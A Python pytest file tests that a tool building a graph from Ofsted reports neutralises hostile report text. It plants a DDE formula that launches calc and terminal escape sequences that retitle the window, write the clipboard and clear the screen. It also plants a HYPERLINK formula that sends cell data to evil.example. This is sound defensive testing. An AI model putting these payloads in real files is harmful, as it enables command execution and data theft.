"""Report text is data, never instructions: a recommendation made to start a spreadsheet
formula is text in every workbook and CSV, an escape sequence in a report never reaches
the terminal, and a reader that stops reading (``| head``) ends a command quietly.

Built from Trafford's 2022 report with two of its recommendations edited, through the
command line, and read back from the real files."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from rdflib import Graph
from rdflib.namespace import SDO

from conftest import REPORTS, ROOT
from ofsted_kg.cli import main
from ofsted_kg.export.csvw import METADATA_NAME, read_csvw
from ofsted_kg.model.namespaces import OA
from ofsted_kg.query.render import render_csv
from ofsted_kg.safe_output import from_spreadsheet_text, spreadsheet_text
from ofsted_kg.source.manifest import Entry, read_manifest, write_manifest
from ofsted_kg.store.engines import SelectResult

FORMULA = "=cmd|' /C calc'!A0 supervision."
# An OSC that retitles the window, an OSC 52 that writes the clipboard, a C1 CSI that
# clears the screen, a CSI colour.
ESCAPED = (
    "The support for \x1b]0;PWNED\x07homeless children\x1b]52;c;ZXZpbA==\x07 over 16.\x9b2J\x1b[31m"
)
HOSTILE = ("\x1b", "\x07", "\x9b", "\x9d", "PWNED", "ZXZpbA")
HOMELESS_FACT = (
    "https://w3id.org/ofsted-kg/id/inspection/E08000009/2022-11-21/recommendation/local-authority/2"
)


def hostile_report(folder: Path) -> Path:
    """Trafford 2022 with one recommendation starting a formula and one holding escape
    sequences."""
    text = (REPORTS / "trafford-2022-ilacs.txt").read_text(encoding="utf-8")
    for printed, made in (
        ("- The quality and frequency of supervision.", f"- {FORMULA}"),
        ("- The support for homeless children over 16.", f"- {ESCAPED}"),
    ):
        assert printed in text
        text = text.replace(printed, made, 1)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "trafford-2022-ilacs.txt"
    path.write_text(text, encoding="utf-8")
    return path


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.fixture(scope="module")
def graph(tmp_path_factory) -> Path:
    """The graph built from the hostile report by the CLI."""
    root = tmp_path_factory.mktemp("hostile")
    hostile_report(root / "reports")
    result = run("build", root / "reports", "-o", root / "graphs")
    assert result.exit_code == 0, result.output
    return root / "graphs" / "ofsted.ttl"


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- formulas --------------------------------------------------------------------------------


def test_a_formula_in_a_report_is_a_text_cell_in_the_workbook(graph, tmp_path):
    out = tmp_path / "answer.xlsx"
    result = run("query", "recommendations", "--graph", graph, "-o", out)
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == FORMULA] == ["s"]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(out) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    # Numbers and dates are still numbers and dates.
    header = [cell.value for cell in sheet[1]]
    first = dict(zip(header, sheet[2], strict=True))
    assert isinstance(first["start"].value, datetime)
    assert (first["number"].value, first["number"].data_type) == (1, "n")


@pytest.mark.parametrize("command", ["query", "search"])
def test_a_formula_in_a_report_is_quoted_in_csv(graph, tmp_path, command):
    if command == "query":
        args = ["query", "recommendations", "--graph", graph, "-f", "csv"]
    else:
        args = ["search", "supervision calc", "--graph", graph, "-f", "csv", "-n", "3"]
    printed = run(*args)
    assert printed.exit_code == 0, printed.output
    written = run(*args, "-o", tmp_path / "answer.csv")
    assert written.exit_code == 0, written.output
    for text in (printed.output, (tmp_path / "answer.csv").read_text(encoding="utf-8")):
        cells = [cell for row in rows_of(text) for cell in row]
        assert "'" + FORMULA in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_a_formula_in_a_report_is_quoted_in_the_csvw_tables_and_read_back_so(graph, tmp_path):
    result = run("export", "--format", "csvw", "--graph", graph, "-o", tmp_path)
    assert result.exit_code == 0, result.output
    cells = [
        cell
        for path in sorted(tmp_path.glob("*.csv"))
        for row in rows_of(path.read_text(encoding="utf-8"))
        for cell in row
    ]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    # A CSVW processor reads the text a spreadsheet shows: the quote stays (csvw.py).
    texts = {str(o) for o in read_csvw(tmp_path / METADATA_NAME).objects(None, SDO.text)}
    assert "'" + FORMULA in texts and FORMULA not in texts
    assert "The support for homeless children over 16." in texts


def test_csv_quotes_what_a_spreadsheet_would_run_and_leaves_numbers():
    values = ["-3", "-0.5", "+44", "12", "=1+1", "- item", "@SUM(A1)", "+ more", "\tx", "a=b"]
    text = render_csv(SelectResult(["value"], [[v] for v in values]))
    assert [row[0] for row in rows_of(text)[1:]] == [
        "-3",
        "-0.5",
        "+44",
        "12",
        "'=1+1",
        "'- item",
        "'@SUM(A1)",
        "'+ more",
        "'\tx",
        "a=b",
    ]


def test_the_sync_manifest_quotes_a_formula_and_reads_it_back(tmp_path):
    entry = Entry(
        urn="80544",
        gss="E08000009",
        council="Trafford",
        label='=HYPERLINK("http://evil.example/?"&A1,"Report")',
        kind="-ilacs",
        published="2023-01-20",
        file_id="50206321",
        url="https://files.ofsted.gov.uk/v1/file/50206321",
        path="trafford/50206321.pdf",
        bytes="-1",
    )
    path = write_manifest(tmp_path, [entry])
    cells = rows_of(path.read_text(encoding="utf-8"))[1]
    assert "'" + entry.label in cells and "'-ilacs" in cells and "-1" in cells
    assert read_manifest(path) == [entry]


# --- escape sequences ------------------------------------------------------------------------


def test_the_graph_holds_the_report_text_without_escape_sequences(graph):
    g = Graph().parse(graph)
    texts = {str(o) for o in g.objects(None, SDO.text)}
    assert "The support for homeless children over 16." in texts
    assert not [t for t in texts if any(c in t for c in HOSTILE)]
    # The quote is the file's own text (provenance), escaped in the graph file.
    report = (graph.parent.parent / "reports" / "trafford-2022-ilacs.txt").read_text("utf-8")
    quotes = {str(o) for o in g.objects(None, OA.exact)}
    assert ESCAPED.removesuffix("\x9b2J\x1b[31m") in quotes
    assert all(q in report for q in quotes)
    assert not any(c in graph.read_text(encoding="utf-8") for c in ("\x1b", "\x07", "\x9b"))


@pytest.mark.parametrize(
    "args",
    [
        ["query", "recommendations"],
        ["query", "recommendations", "-f", "csv"],
        ["query", "recommendations", "-f", "markdown"],
        ["query", "recommendations", "-f", "json"],
        ["query", "provenance", "-p", f"fact={HOMELESS_FACT}"],
        ["query", "provenance", "-p", f"fact={HOMELESS_FACT}", "-f", "csv"],
        ["search", "homeless children"],
        ["search", "homeless children", "-f", "csv"],
        ["search", "homeless children", "-f", "json"],
    ],
    ids=" ".join,
)
def test_no_escape_sequence_reaches_the_terminal(graph, args):
    result = run(*args, "--graph", graph)
    assert result.exit_code == 0, result.output
    assert "homeless children" in result.output
    assert not [c for c in ("\x1b", "\x07", "\x9b", "\x9d", "\x9c") if c in result.output]


def test_no_escape_sequence_reaches_the_terminal_of_a_real_process(graph):
    """The installed command, its stdout a pipe (click strips CSI there, never OSC)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    for args in (["query", "provenance", "-p", f"fact={HOMELESS_FACT}"], ["search", "homeless"]):
        done = subprocess.run(
            [sys.executable, "-m", "ofsted_kg.cli", *args, "--graph", str(graph), "-f", "csv"],
            capture_output=True,
            env=env,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        assert b"homeless children" in done.stdout
        assert not [c for c in (b"\x1b", b"\x07", "\x9b".encode()) if c in done.stdout]


# --- a closed pipe ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [["build", "{report}", "-o", "{out}", "--no-cache"], ["queries"], ["--help"]],
    ids=lambda args: args[0],
)
def test_a_closed_stdout_ends_the_command_quietly_with_exit_code_0(tmp_path, args):
    """``ofsted-kg build | head -c 10``: the reader has gone before the command writes
    (its end of the pipe closed at once), every time; click alone exited 1 ("violations")."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    report = REPORTS / "trafford-2022-ilacs.txt"
    for attempt in range(3):
        argv = [a.format(report=report, out=tmp_path / f"out{attempt}") for a in args]
        process = subprocess.Popen(
            [sys.executable, "-m", "ofsted_kg.cli", *argv],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=env,
        )
        process.stdout.close()  # the reader is gone
        stderr = process.stderr.read()
        assert process.wait(timeout=120) == 0, stderr
        assert stderr == b""


@pytest.mark.parametrize("value", ["=x", "'=x", "''=x", "'+44 x", "'quoted", "-3", "'", ""])
def test_a_quoted_cell_reads_back_as_written(value):
    """A text that starts with the quote the writer adds, and a formula's start ("'=x"),
    came back as "=x": it is quoted once more now."""
    assert from_spreadsheet_text(spreadsheet_text(value)) == value
